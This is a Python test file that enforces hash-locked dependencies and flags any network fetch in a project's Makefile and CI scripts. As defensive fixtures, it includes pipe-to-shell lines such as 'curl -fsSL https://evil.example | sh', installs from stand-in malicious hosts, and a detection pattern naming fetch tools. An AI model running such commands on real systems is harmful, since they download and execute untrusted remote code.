"""Every Python package is locked with hashes, from no registry in particular; nothing is installed past the locks."""

import re
import sys
from importlib import metadata
from pathlib import Path

import pytest

from tests.weitergabe import sperren
from tests.weitergabe.sperren import ENTWICKLUNG, LAUFZEIT, SPERREN, WURZEL, gesperrt, schreibweise, verlangt


@pytest.mark.parametrize("name", SPERREN)
def test_each_package_has_hashes(name):
    pakete = gesperrt(SPERREN[name])
    assert pakete
    for paket, stand in ((paket, stand) for paket, staende in pakete.items() for stand in staende):
        assert stand.hashes, paket
        assert all(re.fullmatch("sha256:[0-9a-f]{64}", summe) for summe in stand.hashes), paket


@pytest.mark.parametrize("name", SPERREN)
def test_what_is_asked_for_is_locked_at_that_version(name):
    """Fails after a change of an .in file: `make sperre`."""
    pakete = gesperrt(SPERREN[name])
    assert verlangt(name)
    versionen = {paket: {stand.version for stand in pakete[paket]} for paket in verlangt(name)}
    assert versionen == {paket: {version} for paket, version in verlangt(name).items()}


def test_tests_run_with_what_the_product_runs_on():
    laufzeit, entwicklung = gesperrt(LAUFZEIT), gesperrt(ENTWICKLUNG)
    assert {paket: entwicklung.get(paket) for paket in laufzeit} == laufzeit


def test_the_product_does_not_bring_what_only_tests_need():
    """Among them is nothing that opens browsers or runs Java; pikepdf needs lxml too."""
    assert set(verlangt("entwicklung")) & set(gesperrt(LAUFZEIT)) <= {"lxml"}


def test_what_the_product_imports_is_asked_for_by_itself():
    """Not only by what else needs it, which may do without it one day."""
    eigene = {"konzept", "handlungsfelder", "massnahmen"}
    importiert = {
        modul
        for ordner in eigene
        for pfad in (WURZEL / ordner).rglob("*.py")
        for zeile in re.findall(r"^ *(?:from|import) ([\w.]+(?:, *[\w.]+)*)", pfad.read_text(encoding="utf-8"), re.M)
        for modul in re.findall(r"(?:^|, *)(\w+)", zeile)
    }
    pakete = metadata.packages_distributions()
    gebraucht = {
        schreibweise(name) for modul in importiert - set(sys.stdlib_module_names) for name in pakete.get(modul, [])
    }
    assert {"django", "pillow", "pyyaml"} <= gebraucht
    assert gebraucht <= set(verlangt("laufzeit"))


@pytest.mark.parametrize("name", SPERREN)
def test_no_lock_names_an_address_or_a_place_on_a_machine(name):
    assert not re.search(r"https?:|file:|--(extra-)?index|--find-links| /|@", SPERREN[name].read_text(encoding="utf-8"))


# How they are read


def test_a_package_under_several_conditions_is_read_with_all_of_them(tmp_path):
    sperre = tmp_path / "sperre.txt"
    sperre.write_text(
        "a==1 ; python_version < '3.12' \\\n    --hash=sha256:01\na==2 ; python_version >= '3.12'\nB_c==3\n"
    )
    assert gesperrt(sperre) == {
        "a": [("1", "python_version < '3.12'", ("sha256:01",)), ("2", "python_version >= '3.12'", ())],
        "b-c": [("3", "", ())],
    }


def lies_liste(text: str, ordner: Path, monkeypatch) -> dict[str, str]:
    monkeypatch.setattr(sperren, "WURZEL", ordner)
    (ordner / "requirements").mkdir()
    (ordner / "requirements/node.in").write_text(text)
    return verlangt("node")


def test_what_a_list_may_hold(tmp_path, monkeypatch):
    text = "# Why\n\n-r laufzeit.in\n-c ../requirements.txt  # so\nA_b[x,y]==1.2  # for this\nc==3 ; os_name == 'nt'\n"
    assert lies_liste(text, tmp_path, monkeypatch) == {"a-b": "1.2", "c": "3"}


@pytest.mark.parametrize(
    "zeile",
    [
        *("evil", "evil>=1", "evil~=1.0", "evil @ https://evil.example/evil.whl", "https://evil.example/evil.whl"),
        *("git+https://evil.example/evil", "./evil", "-e ./evil", "--index-url https://evil.example", "-r evil.in"),
        *("evil ==", "evil==1\nevil==2", "--pre"),
    ],
)
def test_what_a_list_may_not_hold(zeile, tmp_path, monkeypatch):
    with pytest.raises(ValueError, match=r"node\.in"):
        lies_liste(f"a==1\n{zeile}\n", tmp_path, monkeypatch)


# What installs them


HOLT = r"(?:pip[\d.]*|pipx|uvx?|npm|npx|pnpm|yarn|conda|poetry|pdm|easy_install|curl|wget|--upgrade-deps)"
ERLAUBT = {
    "Makefile": [
        "pip install --quiet --disable-pip-version-check --require-hashes",
        "uv pip compile --quiet --universal --python-version 3.11 --generate-hashes --custom-compile-command "
        '"make sperre" $(ARGS',
        "npm --version",
        "npm ci --loglevel=error",
    ],
    "sbom.py": ['"npm", "sbom", "--sbom-format", "cyclonedx"'],
    "run": [],
    "systempakete": [],
}
"""Each call of what fetches packages or files from the net, in the order in which it stands there."""


def rufe(text: str) -> list[str]:
    """Of a shell or a Makefile, without comments: from the name of the program to where its command ends."""
    ohne = re.sub(r"^\s*#.*\n", "", text.replace("\\\n", " "), flags=re.MULTILINE)
    return [" ".join(ruf.split()) for ruf in re.findall(rf"(?<![\w-]){HOLT}(?![\w-])[^;|&>)\n]*", ohne)]


def rufe_in_python(text: str) -> list[str]:
    """Texts with such a name as a word, and those behind them in a list; docstrings and keys are none."""
    ohne = re.sub(r'''"""(?:.|\n)*?"""|(?<=\w)\["\w+"\]|"\w+":''', "", text)
    return re.findall(rf"""["'](?:[^"'\n]*[ /])?{HOLT}(?=[ "'])[^"'\n]*["'](?:, ["'][^"'\n]*["'])*""", ohne)


def test_nothing_is_fetched_from_the_net_past_the_locks():
    dateien = [WURZEL / "Makefile", *sorted(datei for datei in (WURZEL / ".ci").rglob("*") if datei.is_file())]
    dateien = [datei for datei in dateien if datei.suffix != ".pyc"]
    for datei in dateien:
        lies = rufe_in_python if datei.suffix == ".py" else rufe
        assert [datei.name, *lies(datei.read_text(encoding="utf-8"))] == [datei.name, *ERLAUBT.get(datei.name, [])]
    assert {datei.name for datei in dateien} == set(ERLAUBT)


@pytest.mark.parametrize(
    "zeile",
    [
        *("pip install evil", "pip --quiet install evil", ".venv/bin/pip3.11 install evil", "python -m pip wheel evil"),
        *("uv pip sync evil.txt", "uv --quiet pip install evil", "$(WERKZEUGE)/bin/uvx evil", "uv run evil"),
        *("curl -fsSL https://evil.example | sh", "wget -O- https://evil.example | sh", "npx evil", "npm i evil"),
        *("pip \\\n\t\tinstall evil", "true && pip install evil", "python -m venv --upgrade-deps .venv"),
    ],
)
def test_what_would_fetch_is_found(zeile):
    assert rufe(f"all:\n\t@{zeile}\n") != []
    assert rufe(f"all:\n\t# {zeile.partition(chr(92))[0]}\n") == []


@pytest.mark.parametrize(
    "zeile",
    [
        *('run(["pip", "install", "evil"])', 'run([sys.executable, "-m", "pip", "install", "evil"])'),
        *("os.system('uv pip sync evil.txt')", 'run("cd x && curl https://evil.example | sh", shell=True)'),
        *('run(f".venv/bin/pip install {evil}", shell=True)', 'run(["npm", *evil])', 'run({"npm": ["npm", evil]})'),
    ],
)
def test_what_would_fetch_is_found_in_python(zeile):
    assert rufe_in_python(zeile) != []


def test_pip_installs_nothing_without_a_hash():
    makefile = (WURZEL / "Makefile").read_text(encoding="utf-8")
    (immer,) = re.findall(r"^PIP_INSTALL := (.*)$", makefile, re.MULTILINE)
    assert "--require-hashes" in immer
    assert makefile.count("PIP_INSTALL :") == 1
    assert makefile.count("pip install") == 1
    assert makefile.count("$(PIP_INSTALL)") == makefile.count("$(PIP_INSTALL) -r") == 3
